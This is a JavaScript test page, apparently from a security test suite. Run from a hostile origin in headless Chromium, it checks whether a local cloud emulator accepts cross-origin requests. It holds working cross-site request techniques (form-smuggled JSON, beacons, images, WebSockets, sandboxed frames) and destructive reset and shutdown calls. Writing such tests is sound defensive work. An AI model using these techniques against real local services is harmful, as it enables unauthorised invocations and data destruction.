// Runs in headless Chromium, in a page of another origin than the local cloud; `GIVEN` comes from hostile_page.py.
const { cloud, api, signed } = GIVEN; // `signed` requests are those of a page that knows the developer's credentials
const invoke = `${cloud}/2015-03-31/functions/victim/invocations`;
const apis = [`${cloud}/_aws/execute-api/${api}/`, `http://${api}.execute-api.localhost:${new URL(cloud).port}/`];
const text = { method: "POST", headers: { "Content-Type": "text/plain" }, body: "{}" };
const blind = { ...text, mode: "no-cors" };

const read = async (url, options) => (await fetch(url, options)).text();
const loaded = (element) =>
  new Promise((done) => {
    element.onload = () => done("loaded");
    element.onerror = () => done("error");
    document.body.append(element);
  });
const image = (url) => loaded(Object.assign(document.createElement("img"), { src: url }));
const frame = (settings) => loaded(Object.assign(document.createElement("iframe"), settings));
const post = async (url, type, fields) => {
  const name = `frame-${Math.random()}`;
  const sent = frame({ name, src: "about:blank" });
  await sent;
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", action: url, enctype: type, target: name });
  for (const [key, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement("input"), { name: key, value }));
  document.body.append(form);
  const answered = new Promise((done) => (document.getElementsByName(name)[0].onload = () => done("loaded")));
  form.submit();
  return answered;
};
const socket = (url) =>
  new Promise((done) => {
    const opened = new WebSocket(url.replace("http", "ws"));
    opened.onopen = () => done("opened");
    opened.onerror = () => done("error");
  });
const sandboxed = (url) =>
  frame({
    sandbox: "allow-scripts",
    srcdoc: `<script>fetch("${url}", { method: "POST", mode: "no-cors", body: "{}" })<\/script>`,
  });

const send = ({ url, ...options }) => read(url, options);
const reading = { "read a secret": () => send(signed.secret), "invoke and read": () => send(signed.invoke) };
const calls = {
  ...reading,
  "put an event": () => send(signed.event),
  "create a stack": () => send(signed.stack),
  "invoke with text/plain": () => read(invoke, text),
  "invoke blindly": () => fetch(invoke, blind),
  "invoke by a form": () => post(invoke, "text/plain", { '{"a":"': '"}' }),
  "invoke by a beacon": () => navigator.sendBeacon(invoke, "{}"),
  "invoke by an image": () => image(invoke),
  "invoke by a WebSocket": () => socket(invoke),
  "invoke in a sandbox": () => sandboxed(invoke),
};
const destroying = {
  "reset moto": () => fetch(`${cloud}/moto-api/reset`, blind),
  "reset moto by a form": () => post(`${cloud}/moto-api/reset`, "application/x-www-form-urlencoded", {}),
  "end the cloud": () => read(`${cloud}/_millrace/down`, { method: "POST", headers: { "X-Millrace": "1" } }),
  "end the cloud by a form": () => post(`${cloud}/_millrace/down`, "application/x-www-form-urlencoded", {}),
};
for (const [form, url] of apis.entries())
  Object.assign(calls, {
    [`call API ${form}`]: () => read(url),
    [`call API ${form} blindly`]: () => fetch(url, blind),
    [`call API ${form} by an image`]: () => image(url),
    [`call API ${form} by a frame`]: () => frame({ src: url }),
    [`call API ${form} by a form`]: () => post(url, "text/plain", { a: "b" }),
    [`call API ${form} by a WebSocket`]: () => socket(url),
  });

const outcome = async ([name, attempt]) => {
  const late = new Promise((done) => setTimeout(() => done("no answer"), 5000));
  const sent = (async () => attempt())().catch((error) => error);
  return [name, String(await Promise.race([sent, late]))];
};
addEventListener("load", async () => {
  const attempts = { read: reading, call: calls, destroy: destroying }[GIVEN.phase];
  const saw = await Promise.all(Object.entries(attempts).map(outcome));
  await fetch("/saw", { method: "POST", body: JSON.stringify(Object.fromEntries(saw)) });
});
